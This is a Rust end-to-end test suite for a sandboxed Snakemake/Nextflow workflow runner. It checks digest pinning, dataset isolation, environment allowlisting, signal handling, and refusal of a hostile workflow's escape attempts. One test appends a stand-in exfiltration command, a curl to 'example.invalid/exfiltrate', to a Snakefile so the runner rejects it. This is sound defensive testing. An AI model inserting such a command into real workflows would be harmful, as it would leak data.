//! End-to-end tests of the `spe-runner` binary: real Snakemake (from the project's venv,
//! `tests/peers/python-tools.sh`), and a Nextflow STAND-IN (`tests/stand-ins/nextflow`; real
//! Nextflow cannot run on the test machines).
//!
//! Without Snakemake the Snakemake tests are reported skipped (`SKIPPED <test>: ...` on stderr),
//! unless `CI` is set: then they fail.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, ExitStatus, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;
use spe_core::digest::{digest_files, list_tree, read_files};
use spe_core::runspec::{RUNSPEC_PATH, RunSpec};
use spe_core::{RunId, request::WorkflowType};
use spe_test_support::peers::tools_bin as snakemake_bin;
use spe_test_support::repo_root;

fn copy_tree(from: &Path, to: &Path) {
    for rel in list_tree(from).unwrap() {
        let target = to.join(&rel);
        std::fs::create_dir_all(target.parent().unwrap()).unwrap();
        std::fs::copy(from.join(&rel), target).unwrap();
    }
}

struct Fixture {
    _tmp: tempfile::TempDir,
    workflow_dir: PathBuf,
    spec: RunSpec,
    spec_path: PathBuf,
    /// HOME given to spe-runner.
    home: PathBuf,
}

impl Fixture {
    /// Copies `workflows/<name>` to a temp folder, pins its digest and writes a run spec.
    fn new(name: &str, engine: &str, engine_executable: &str, params_yaml: &str) -> Fixture {
        let source = repo_root().join("workflows").join(name);
        Fixture::from_dir(&source, engine, engine_executable, params_yaml)
    }

    /// As [`Fixture::new`], for a workflow folder anywhere.
    fn from_dir(
        source: &Path,
        engine: &str,
        engine_executable: &str,
        params_yaml: &str,
    ) -> Fixture {
        let tmp = tempfile::tempdir().unwrap();
        let name = source.file_name().unwrap();
        let workflow_dir = tmp.path().join("workflows").join(name);
        copy_tree(source, &workflow_dir);
        // As the registry does: every file of the folder, workflow.yaml included.
        let workflow_files: Vec<String> = list_tree(&workflow_dir).unwrap();
        let expected_digest = digest_files(&read_files(&workflow_dir, &workflow_files).unwrap());
        let run_id = RunId::new_random();
        let run_dir = tmp
            .path()
            .join("runs")
            .join(run_id.shard())
            .join(run_id.to_string());
        std::fs::create_dir_all(run_dir.join(".spe")).unwrap();
        let params_file = run_dir.join(format!("{run_id}.yaml"));
        std::fs::write(&params_file, params_yaml).unwrap();
        let (workflow_type, entry_point) = if engine == "nextflow" {
            (WorkflowType::Nextflow, "main.nf")
        } else {
            (WorkflowType::Snakemake, "Snakefile")
        };
        let spec = RunSpec {
            run_id,
            workflow_type,
            engine: engine.to_owned(),
            engine_executable: engine_executable.to_owned(),
            workflow_dir: workflow_dir.clone(),
            entry_point: entry_point.to_owned(),
            workflow_files,
            expected_digest,
            log_dir: run_dir.join(".weskit/2026-01-31T12:00:00Z"),
            run_dir,
            params_file,
            engine_parameters: BTreeMap::from([
                ("cores".to_owned(), "1".to_owned()),
                ("memory_mb".to_owned(), "512".to_owned()),
                ("partition".to_owned(), "debug".to_owned()),
                ("runtime_minutes".to_owned(), "5".to_owned()),
            ]),
            sandbox: Default::default(),
            datasets: Vec::new(),
            crypt4gh: None,
        };
        let spec_path = spec.run_dir.join(RUNSPEC_PATH);
        std::fs::write(&spec_path, serde_json::to_vec_pretty(&spec).unwrap()).unwrap();
        Fixture {
            _tmp: tmp,
            workflow_dir,
            spec,
            spec_path,
            home: std::env::var_os("HOME").map_or_else(|| "/tmp".into(), PathBuf::from),
        }
    }

    /// Starts spe-runner with PATH = `bin` + the system's, and a variable that must not leak.
    fn start(&self, bin: &Path) -> Child {
        let path = format!("{}:/usr/local/bin:/usr/bin:/bin", bin.display());
        Command::new(env!("CARGO_BIN_EXE_spe-runner"))
            .arg("--spec")
            .arg(&self.spec_path)
            .env_clear()
            .env("PATH", path)
            .env("HOME", &self.home)
            .env("LANG", "C.UTF-8")
            .env("SPE_TEST_SECRET", "must-not-reach-the-engine")
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap()
    }

    fn run(&self, bin: &Path) -> (ExitStatus, String) {
        let out = self.start(bin).wait_with_output().unwrap();
        (
            out.status,
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    }

    /// Names the run's datasets in the spec: the only data the sandbox shows.
    fn set_datasets(&mut self, datasets: &[&Path]) {
        self.spec.datasets = datasets.iter().map(|d| d.to_path_buf()).collect();
        std::fs::write(
            &self.spec_path,
            serde_json::to_vec_pretty(&self.spec).unwrap(),
        )
        .unwrap();
    }

    fn log_json(&self) -> Value {
        let bytes = std::fs::read(self.spec.log_dir.join("log.json")).expect("log.json written");
        // The runner's own type reads it back too.
        spe_core::logjson::LogJson::from_slice(&bytes).expect("log.json parses as LogJson");
        serde_json::from_slice(&bytes).unwrap()
    }

    fn engine_stderr(&self) -> String {
        std::fs::read_to_string(self.spec.log_dir.join("stderr")).unwrap_or_default()
    }
}

const WESKIT_KEYS: [&str; 10] = [
    "start_time",
    "end_time",
    "cmd",
    "workdir",
    "exit_code",
    "stdout_file",
    "stderr_file",
    "log_dir",
    "log_file",
    "output_files",
];

fn outputs(log: &Value) -> Vec<&str> {
    log["output_files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect()
}

#[test]
fn snakemake_quals_runs_and_writes_log_json() {
    let Some(bin) = snakemake_bin() else { return };
    let mut fx = Fixture::new("quals", "snakemake", "snakemake", "min_qual: 40\n");
    // A dataset outside the workflow, as wes-api resolves a dataset id to its location.
    let dataset = fx._tmp.path().join("datasets/d1");
    std::fs::create_dir_all(&dataset).unwrap();
    std::fs::write(
        dataset.join("calls.tsv"),
        "chrom\tpos\tsample\tqual\nchr1\t5\tZ\t41.0\nchr1\t9\tZ\t12.0\n",
    )
    .unwrap();
    std::fs::write(
        &fx.spec.params_file,
        format!("min_qual: 40\ndataset: {}\n", dataset.display()),
    )
    .unwrap();
    fx.set_datasets(&[&dataset]);
    let started = Instant::now();
    let (status, stderr) = fx.run(&bin);
    eprintln!("quals run took {:?}", started.elapsed());
    assert_eq!(
        status.code(),
        Some(0),
        "runner: {stderr}\nengine: {}",
        fx.engine_stderr()
    );
    let run_dir = &fx.spec.run_dir;
    let results = std::fs::read_to_string(run_dir.join("results.csv")).unwrap();
    assert!(results.starts_with("sample,calls,mean_qual"), "{results}");
    assert!(results.contains("\nZ,2,26.50,12.0,41.0,1\n"), "{results}");
    let svg = std::fs::read_to_string(run_dir.join("plots/quals.svg")).unwrap();
    assert!(svg.starts_with("<svg") && svg.trim_end().ends_with("</svg>"));

    let log = fx.log_json();
    for key in WESKIT_KEYS {
        assert!(log.get(key).is_some(), "log.json lacks {key}: {log}");
    }
    assert_eq!(log["exit_code"], 0);
    assert!(
        log.get("signal").is_none() && log.get("error").is_none(),
        "{log}"
    );
    assert_eq!(outputs(&log), ["plots/quals.svg", "results.csv"]);
    assert_eq!(log["workdir"], run_dir.to_str().unwrap());
    assert_eq!(log["stdout_file"], ".weskit/2026-01-31T12:00:00Z/stdout");
    assert_eq!(log["log_file"], ".weskit/2026-01-31T12:00:00Z/log.json");
    let cmd: Vec<&str> = log["cmd"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    assert_eq!(cmd[0], "snakemake");
    assert!(cmd.windows(2).any(|w| w == ["--resources", "mem_mb=512"]));
    assert!(!cmd.iter().any(|a| a.contains("debug")));
    assert!(
        log["start_time"].as_str().unwrap().ends_with('Z')
            && log["start_time"].as_str() <= log["end_time"].as_str()
    );
    // Nothing of the runner's environment beyond the allowlist is written anywhere.
    assert!(!fx.engine_stderr().contains("must-not-reach-the-engine"));
}

#[test]
fn snakemake_cannot_read_a_dataset_its_spec_does_not_name() {
    let Some(bin) = snakemake_bin() else { return };
    // The params point at a dataset path (as a smuggled string would), the spec names none:
    // inside the sandbox the path does not exist, so the run fails and produces nothing.
    let fx = Fixture::new("quals", "snakemake", "snakemake", "{}\n");
    let other = fx._tmp.path().join("datasets/other");
    std::fs::create_dir_all(&other).unwrap();
    std::fs::write(
        other.join("calls.tsv"),
        "chrom\tpos\tsample\tqual\nchr1\t5\tZ\t41.0\n",
    )
    .unwrap();
    std::fs::write(
        &fx.spec.params_file,
        format!("dataset: {}\n", other.display()),
    )
    .unwrap();
    let (status, stderr) = fx.run(&bin);
    assert_eq!(status.code(), Some(1), "{stderr}");
    assert!(
        fx.engine_stderr()
            .contains("Missing input files for rule summarize"),
        "{}",
        fx.engine_stderr()
    );
    assert!(!fx.spec.run_dir.join("results.csv").exists());
    assert_eq!(fx.log_json()["output_files"], serde_json::json!([]));
}

#[test]
fn digest_mismatch_refuses_to_run() {
    // The engine never starts here, so no Snakemake is needed: a missing one would show as 127.
    let fx = Fixture::new("quals", "snakemake", "snakemake", "{}\n");
    let snakefile = fx.workflow_dir.join("Snakefile");
    let mut text = std::fs::read_to_string(&snakefile).unwrap();
    text.push_str("\nshell('curl https://example.invalid/exfiltrate')\n");
    std::fs::write(&snakefile, text).unwrap();
    let (status, stderr) = fx.run(Path::new("/nonexistent"));
    assert_eq!(status.code(), Some(125), "{stderr}");
    assert!(!fx.spec.run_dir.join("results.csv").exists());
    assert!(!fx.spec.run_dir.join(".snakemake").exists(), "engine ran");
    let log = fx.log_json();
    assert_eq!(log["exit_code"], Value::Null);
    assert_eq!(
        log["error"],
        "workflow files do not match the approved digest"
    );
    assert_eq!(log["output_files"], serde_json::json!([]));
    assert!(log["cmd"][0] == "snakemake", "{log}");
}

#[test]
fn files_outside_the_digest_are_refused() {
    let fx = Fixture::new("quals", "snakemake", "snakemake", "{}\n");
    std::fs::create_dir_all(fx.workflow_dir.join("rules")).unwrap();
    std::fs::write(fx.workflow_dir.join("rules/extra.smk"), "rule x:\n").unwrap();
    let (status, _) = fx.run(Path::new("/nonexistent"));
    assert_eq!(status.code(), Some(125));
    let log = fx.log_json();
    let error = log["error"].as_str().unwrap();
    assert!(
        error.starts_with("workflow files do not match the approved digest")
            && error.contains("rules/extra.smk"),
        "{error}"
    );
}

#[test]
fn missing_engine_is_reported() {
    let fx = Fixture::new("fail-demo", "snakemake", "/nonexistent/snakemake", "{}\n");
    let (status, _) = fx.run(Path::new("/nonexistent"));
    assert_eq!(status.code(), Some(127));
    let log = fx.log_json();
    assert_eq!(log["exit_code"], Value::Null);
    assert!(
        log["error"]
            .as_str()
            .unwrap()
            .starts_with("cannot start the engine")
    );
}

#[test]
fn snakemake_failing_workflow_reports_exit_code() {
    let Some(bin) = snakemake_bin() else { return };
    let fx = Fixture::new("fail-demo", "snakemake", "snakemake", "{}\n");
    let (status, stderr) = fx.run(&bin);
    assert_ne!(status.code(), Some(0), "{stderr}");
    let log = fx.log_json();
    let code = log["exit_code"].as_i64().unwrap();
    assert_ne!(code, 0);
    assert_eq!(status.code(), Some(code as i32));
    assert!(log.get("signal").is_none(), "{log}");
    assert!(
        fx.engine_stderr().contains("failing on purpose"),
        "{}",
        fx.engine_stderr()
    );
    assert!(!fx.spec.run_dir.join("never.txt").exists());
}

/// Pids of processes in process group `pgid`, or whose command line contains `needle`.
fn processes(pgid: i32, needle: &str) -> Vec<String> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let name = entry.file_name().to_string_lossy().into_owned();
        if !name.bytes().all(|b| b.is_ascii_digit()) {
            continue;
        }
        let Ok(stat) = std::fs::read_to_string(entry.path().join("stat")) else {
            continue;
        };
        // Fields after the command name (which is in parentheses): state ppid pgrp ...
        let after = stat.rsplit_once(')').map(|(_, a)| a).unwrap_or("");
        let fields: Vec<&str> = after.split_whitespace().collect();
        let state = fields.first().copied().unwrap_or("");
        let group: i32 = fields.get(2).and_then(|g| g.parse().ok()).unwrap_or(0);
        let cmdline = std::fs::read(entry.path().join("cmdline"))
            .map(|c| String::from_utf8_lossy(&c).replace('\0', " "))
            .unwrap_or_default();
        if state != "Z" && (group == pgid || cmdline.contains(needle)) {
            found.push(format!("{name} {cmdline}"));
        }
    }
    found
}

fn children(pid: u32) -> Vec<i32> {
    std::fs::read_to_string(format!("/proc/{pid}/task/{pid}/children"))
        .unwrap_or_default()
        .split_whitespace()
        .filter_map(|p| p.parse().ok())
        .collect()
}

#[test]
fn sigterm_stops_the_engine_and_is_recorded() {
    let Some(bin) = snakemake_bin() else { return };
    // An unusual duration, so that the sleep process can be recognised.
    let fx = Fixture::new("sleep-demo", "snakemake", "snakemake", "seconds: 297\n");
    let mut runner = fx.start(&bin);
    let needle = "sleep 297";
    let deadline = Instant::now() + Duration::from_secs(60);
    while !fx.engine_stderr().contains(needle) || processes(-1, needle).is_empty() {
        assert!(
            Instant::now() < deadline,
            "engine did not start: {}",
            fx.engine_stderr()
        );
        assert!(runner.try_wait().unwrap().is_none(), "runner ended early");
        std::thread::sleep(Duration::from_millis(100));
    }
    let engine_pgid = *children(runner.id())
        .first()
        .expect("engine is the runner's child");
    assert!(!processes(engine_pgid, needle).is_empty());

    let signalled = Instant::now();
    // SAFETY: kill(2) with plain integers.
    assert_eq!(unsafe { libc::kill(runner.id() as i32, libc::SIGTERM) }, 0);
    let status = loop {
        if let Some(status) = runner.try_wait().unwrap() {
            break status;
        }
        assert!(
            signalled.elapsed() < Duration::from_secs(15),
            "runner still running 15 s after SIGTERM"
        );
        std::thread::sleep(Duration::from_millis(50));
    };
    eprintln!("runner exited {:?} after SIGTERM", signalled.elapsed());
    assert!(signalled.elapsed() < Duration::from_secs(8));
    assert_eq!(status.code(), Some(128 + 15));
    let left = processes(engine_pgid, needle);
    assert!(left.is_empty(), "engine processes left: {left:?}");
    let log = fx.log_json();
    assert_eq!(log["signal"], "SIGTERM", "{log}");
    assert!(!fx.spec.run_dir.join("done.txt").exists());
    assert!(!outputs(&log).contains(&"done.txt"));
}

#[test]
fn nextflow_stand_in_run_writes_log_json() {
    // tests/stand-ins/nextflow is NOT Nextflow: it checks the command line spe-runner builds and
    // writes what a Nextflow run leaves (.nextflow.log, trace, work/, results/).
    let fx = Fixture::new(
        "hello-nf",
        "nextflow",
        "nextflow",
        "greeting: Hello\nnames: [world, SPE]\n",
    );
    let stand_ins = repo_root().join("tests/stand-ins");
    let (status, stderr) = fx.run(&stand_ins);
    assert_eq!(
        status.code(),
        Some(0),
        "runner: {stderr}\nengine: {}",
        fx.engine_stderr()
    );
    assert!(
        fx.engine_stderr()
            .contains("THIS IS A STAND-IN FOR NEXTFLOW, NOT NEXTFLOW")
    );
    let run_dir = &fx.spec.run_dir;
    assert_eq!(
        std::fs::read_to_string(run_dir.join("results/greetings.txt")).unwrap(),
        "Hello, SPE!\nHello, world!\n"
    );
    let nextflow_log = std::fs::read_to_string(run_dir.join(".nextflow.log")).unwrap();
    let names = nextflow_log
        .lines()
        .find_map(|l| l.split_once("environment variable names: "))
        .map(|(_, names)| names.split_whitespace().collect::<Vec<_>>())
        .unwrap();
    assert!(
        names.contains(&"NXF_OFFLINE") && names.contains(&"PATH"),
        "{names:?}"
    );
    // Its home is in the sandbox's scratch, never the account's.
    assert!(
        names.contains(&"NXF_HOME") && names.contains(&"HOME"),
        "{names:?}"
    );
    assert!(!names.contains(&"SPE_TEST_SECRET"), "{names:?}");
    let trace = std::fs::read_to_string(fx.spec.log_dir.join("trace.txt")).unwrap();
    let mut lines = trace.lines();
    assert!(
        lines
            .next()
            .unwrap()
            .starts_with("task_id\thash\tnative_id\tname\tstatus\texit")
    );
    assert_eq!(lines.filter(|l| l.contains("\tCOMPLETED\t0\t")).count(), 2);

    let log = fx.log_json();
    for key in WESKIT_KEYS {
        assert!(log.get(key).is_some(), "log.json lacks {key}: {log}");
    }
    assert_eq!(log["exit_code"], 0);
    // work/, .nextflow.log and the params file are not outputs.
    assert_eq!(outputs(&log), ["results/greetings.txt"]);
    assert_eq!(log["cmd"][1], "run");
    assert!(
        log["cmd"]
            .as_array()
            .unwrap()
            .contains(&"-executor.cpus=1".into())
    );
}

#[test]
fn a_hostile_snakemake_workflow_is_refused_everything_but_its_own_output() {
    let Some(bin) = snakemake_bin() else { return };
    let Some(s3) = spe_test_support::peers::s3_url() else {
        return;
    };
    let port = s3.rsplit(':').next().unwrap().trim_end_matches('/');
    let source = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/workflows/hostile");
    let mut fx = Fixture::from_dir(&source, "snakemake", "snakemake", "{}\n");
    let root = fx._tmp.path().to_path_buf();
    let own = root.join("datasets/own");
    std::fs::create_dir_all(&own).unwrap();
    let other_dataset = root.join("datasets/other/calls.tsv");
    let other_run = root.join("runs/ffff/another-run/results.csv");
    for (path, text) in [(&other_dataset, "secret\n"), (&other_run, "theirs\n")] {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    let run_spec = fx.spec_path.clone();
    std::fs::write(
        &fx.spec.params_file,
        format!(
            "other_dataset: {}\nother_run: {}\nrun_spec: {}\ns3_port: {port}\n",
            other_dataset.display(),
            other_run.display(),
            run_spec.display()
        ),
    )
    .unwrap();
    fx.set_datasets(&[&own]);
    let spec_before = std::fs::read(&run_spec).unwrap();
    // The job's HOME outside the sandbox: a folder of the test's, so that even a failure of
    // this test cannot plant anything in a real home.
    fx.home = root.join("home");
    std::fs::create_dir_all(&fx.home).unwrap();
    let planted = fx.home.join(".nextflow/config");

    let (status, stderr) = fx.run(&bin);
    assert_eq!(
        status.code(),
        Some(0),
        "runner: {stderr}\nengine: {}",
        fx.engine_stderr()
    );
    let report = std::fs::read_to_string(fx.spec.run_dir.join("report.txt")).unwrap();
    let lines: Vec<&str> = report.lines().collect();
    for what in [
        "read another dataset",
        "read another run",
        "write another run",
        "rewrite the run spec",
        "change the workflow",
        "connect to the S3 server",
    ] {
        let line = lines
            .iter()
            .find(|l| l.starts_with(what))
            .unwrap_or_else(|| panic!("{what} not tried: {report}"));
        assert!(line.contains(": refused ("), "{line}");
    }
    // Its home was the sandbox's scratch: the planted Nextflow config went with it.
    assert!(lines.contains(&"home: /tmp/home"), "{report}");
    assert!(!planted.exists(), "planted in the job's HOME");
    // Nothing outside the run changed, and the run's own output is there.
    assert_eq!(std::fs::read(&run_spec).unwrap(), spec_before);
    assert_eq!(std::fs::read_to_string(&other_run).unwrap(), "theirs\n");
    assert!(
        std::fs::read_to_string(fx.workflow_dir.join("Snakefile"))
            .unwrap()
            .contains("HOSTILE TEST WORKFLOW")
    );
    assert_eq!(outputs(&fx.log_json()), ["report.txt"]);
}
